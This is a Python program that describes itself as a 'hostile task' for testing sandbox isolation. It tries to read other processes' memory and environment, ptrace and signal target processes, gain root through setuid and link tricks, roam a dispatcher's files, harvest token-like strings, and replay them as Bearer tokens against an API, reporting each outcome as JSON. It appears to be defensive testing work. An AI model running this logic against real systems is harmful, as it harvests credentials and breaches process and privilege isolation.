"""A hostile task: it tries what a task must not be able to do, and reports what came of each, as JSON on its output.

Runs as a program of its own, on the Python of the VM, with what to aim at in TARGETS. Imports nothing of ours.
"""

import contextlib
import ctypes
import json
import os
import re
import signal
import stat
import subprocess
import sys
import urllib.error
import urllib.request

TARGETS = json.loads(os.environ.get("TARGETS", "{}"))
PTRACE_SEIZE = 0x4206
TOKENLIKE = re.compile(rb"[A-Za-z0-9_-]+\.[A-Za-z0-9._-]{16,}|[A-Za-z0-9_-]{24,}")
SAID = {}
SEEN = []


def attempt(name, action, *arguments):
    """Note what `action` gave, or why it was refused."""
    try:
        SAID[name] = {"ok": True, "got": repr(action(*arguments))[:300]}
    except Exception as error:
        SAID[name] = {"ok": False, "got": f"{type(error).__name__}: {error}"}


def read(path, size=65536):
    with open(path, "rb") as file:
        body = file.read(size)
    SEEN.append(body)
    return body


def write(path):
    with open(path, "ab") as file:
        file.write(b"x")


def read_memory(pid):
    """Some bytes of the first mapping."""
    with open(f"/proc/{pid}/mem", "rb", 0) as memory, open(f"/proc/{pid}/maps") as maps:
        memory.seek(int(maps.readline().split("-")[0], 16))
        return memory.read(16)


def seize(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")


def call(token):
    request = urllib.request.Request(TARGETS["url"] + "/v1/tasks")
    if token:
        request.add_header("Authorization", "Bearer " + token)
    try:
        with urllib.request.urlopen(request, timeout=5) as reply:
            return reply.status
    except urllib.error.HTTPError as error:
        raise PermissionError(error.code) from None


def door(token, method, path):
    """A route answers something else than that we may not: it is open, whatever it says to what we sent."""
    request = urllib.request.Request(TARGETS["url"] + path, method=method, data=b"{" if method != "GET" else None)
    request.add_header("Authorization", "Bearer " + token)
    try:
        with urllib.request.urlopen(request, timeout=5) as reply:
            return reply.status
    except urllib.error.HTTPError as error:
        if error.code in (401, 403):
            raise PermissionError(error.code) from None
        return error.code


def others():
    """Processes of somebody else."""
    for name in os.listdir("/proc"):
        with contextlib.suppress(OSError):
            if name.isdigit() and os.stat("/proc/" + name).st_uid != os.getuid():
                yield int(name)


def spy():
    """Look into every process of another, and at every file of the dispatcher's."""
    for pid in others():
        for name in ("environ", "maps", "auxv", "stack", "io"):
            attempt(f"proc {pid} {name}", read_some, f"/proc/{pid}/{name}")
        attempt(f"proc {pid} mem", read_memory, pid)
        attempt(f"proc {pid} fd", os.listdir, f"/proc/{pid}/fd")
        for link in ("cwd", "root", "exe"):
            attempt(f"proc {pid} {link}", os.readlink, f"/proc/{pid}/{link}")
        with contextlib.suppress(OSError):
            read(f"/proc/{pid}/cmdline")  # for everybody to see: it must tell nothing
    for path in TARGETS["files"]:
        attempt("read " + path, read, path)
        attempt("write " + path, write, path)
    for path in TARGETS["folders"]:
        attempt("list " + path, os.listdir, path)
        attempt("make " + path, write, os.path.join(path, "mine"))
        attempt("remove " + path, os.rename, path, path + ".gone")


def read_some(path):
    """A file of /proc that is empty tells nothing: a kernel thread's."""
    body = read(path)
    if not body:
        raise PermissionError("nothing in it")
    return body


def strike():
    """Signal and trace those that matter, and gain rights."""
    for name, pid in TARGETS["pids"].items():
        attempt("trace " + name, seize, pid)
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            attempt(f"signal {name} {number}", os.kill, pid, number)
    attempt("setuid program", ask_id)
    attempt("setuid 0", os.setuid, 0)
    attempt("setgroups", os.setgroups, [0])
    attempt("other uid", os.setuid, os.getuid() + 1)
    attempt("setuid file", gain)


def ask_id():
    said = subprocess.run([TARGETS["setuid"], "-u"], capture_output=True, check=True).stdout
    if int(said) == os.getuid():
        raise PermissionError("it ran as me")
    return said


def gain():
    """A link out of our own folder, for root to hand on; and a file of somebody else under our name."""
    os.symlink(TARGETS["files"][0], "link")
    os.link(TARGETS["files"][0], "hard")


def mine():
    """What was given to us: descriptors, environment, rights."""
    links = {}
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            links[name] = os.readlink("/proc/self/fd/" + name)
    with open("/proc/self/status") as file:
        status = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
    wanted = ("Uid", "Gid", "Groups", "NoNewPrivs", "CapPrm", "CapEff", "CapInh", "CapAmb")
    umask = os.umask(0o077)
    return {"fds": links, "status": {name: status.get(name, "") for name in wanted}, "umask": umask}


def roam():
    """Every file below the dispatcher's folder that can be found and read."""
    for folder, _, names in os.walk(TARGETS["state"]):
        for name in names:
            path = os.path.join(folder, name)
            if not os.path.realpath(path).startswith(os.getcwd()):
                with contextlib.suppress(OSError):
                    if stat.S_ISREG(os.lstat(path).st_mode):
                        read(path)
                        SAID["found " + path] = {"ok": True, "got": "read"}


def main():
    own = mine()
    spy()
    strike()
    roam()
    SEEN.append(json.dumps(dict(os.environ)).encode())
    tokens = {word.decode() for body in SEEN for word in TOKENLIKE.findall(body)}
    attempt("api without a token", call, "")
    for token in sorted(tokens)[:200]:
        attempt("api as " + token[:60], call, token)
    for token in sorted(token for token in tokens if token.startswith("cd")):
        for method, path in TARGETS["doors"]:
            attempt(f"door {method} {path} as {token[:60]}", door, token, method, path)
    for name, (method, path) in TARGETS["own"].items():
        attempt("may " + name, door, os.environ["CLOUD_DISPATCH_TASK_TOKEN"], method, path)
    sys.stdout.write(json.dumps({"said": SAID, "own": own, "tokens": len(tokens)}) + "\n")


main()
